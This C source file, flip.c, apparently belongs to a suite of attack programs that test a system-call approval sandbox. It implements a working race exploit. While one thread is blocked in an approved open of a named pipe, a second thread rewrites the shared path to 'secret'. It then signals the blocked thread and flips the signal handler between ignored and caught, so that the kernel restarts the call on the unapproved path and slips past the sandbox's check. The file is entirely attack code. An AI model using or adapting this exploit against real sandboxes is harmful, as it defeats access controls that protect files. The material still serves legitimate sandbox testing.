/*
** flip.c - a signal that is ignored by the time it is delivered
**
** One thread is in a call that was approved, the opening of a pipe. Another gives that call a path
** that is not, sends the thread a signal, and has it caught and ignored by turns: where it is
** ignored after all, no handler runs, and the kernel makes the call again.
*/

#include "attack.h"

#include <pthread.h>
#include <stdatomic.h>

static char path[16];
static pid_t opener;
static atomic_int round_no, done; /* the call that is made, and whether it is over */

static void on_signal(int sig) {
  (void)sig;
}

static void handle(void (*how)(int)) {
  struct sigaction sa = {.sa_handler = how, .sa_flags = SA_RESTART};
  sigaction(SIGUSR1, &sa, NULL);
}

static long now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec * 1000000000 + ts.tv_nsec;
}

static void spin(long ns) {
  long end = now() + ns;
  while (now() < end) continue;
}

/* The open of a reader ends when there is a writer. */
static void let_go(void) {
  int fd;
  while (!atomic_load(&done)) {
    fd = open("pipe", O_WRONLY | O_NONBLOCK);
    if (fd >= 0) close(fd);
    pause_us(100);
  }
}

/* The signal waits until the thread has been looked at: ignored before, it is gone. */
enum { FLIPS = 20, FIRST_NS = 1000000, FLIP_NS = 30000 };

static void flip(unsigned *seed) {
  int n;
  handle(on_signal);
  syscall(SYS_tgkill, getpid(), opener, SIGUSR1);
  spin(rand_r(seed) % FIRST_NS);
  for (n = 0; n < FLIPS; n++) {
    spin(rand_r(seed) % FLIP_NS);
    handle(n % 2 == 0 ? SIG_IGN : on_signal);
  }
  handle(SIG_IGN);
}

/* Whether the opener is in its call. */
static int is_asleep(void) {
  char name[48], text[64] = "";
  const char *end;
  int fd;
  snprintf(name, sizeof name, "/proc/self/task/%d/stat", (int)opener);
  fd = open(name, O_RDONLY);
  if (fd < 0 || read(fd, text, sizeof text - 1) < 0) fails(name);
  close(fd);
  end = strchr(text, ')');
  return end != NULL && end[1] == ' ' && end[2] == 'S';
}

static void *flipper(void *ud) {
  const int *tries = ud;
  unsigned seed = (unsigned)getpid();
  int i;
  for (i = 1; i <= *tries; i++) {
    while (atomic_load(&round_no) < i) pause_us(20);
    while (!is_asleep()) pause_us(100);
    strcpy(path, "secret");
    flip(&seed);
    pause_us(300);
    let_go();
  }
  return NULL;
}

int main(int argc, char *argv[]) {
  int tries = argc > 1 ? atoi(argv[1]) : 100, i, fd;
  pthread_t thread;
  if (mkfifo("pipe", 0600) != 0) fails("mkfifo");
  opener = gettid();
  handle(SIG_IGN);
  if (pthread_create(&thread, NULL, flipper, &tries) != 0) fails("pthread_create");
  for (i = 1; i <= tries; i++) {
    strcpy(path, "pipe");
    atomic_store(&done, 0);
    atomic_store(&round_no, i);
    fd = open(path, O_RDONLY);
    atomic_store(&done, 1);
    if (fd >= 0 && is_secret(fd)) won("by a call that was made again", i);
    if (fd >= 0) close(fd);
  }
  lost(tries);
}
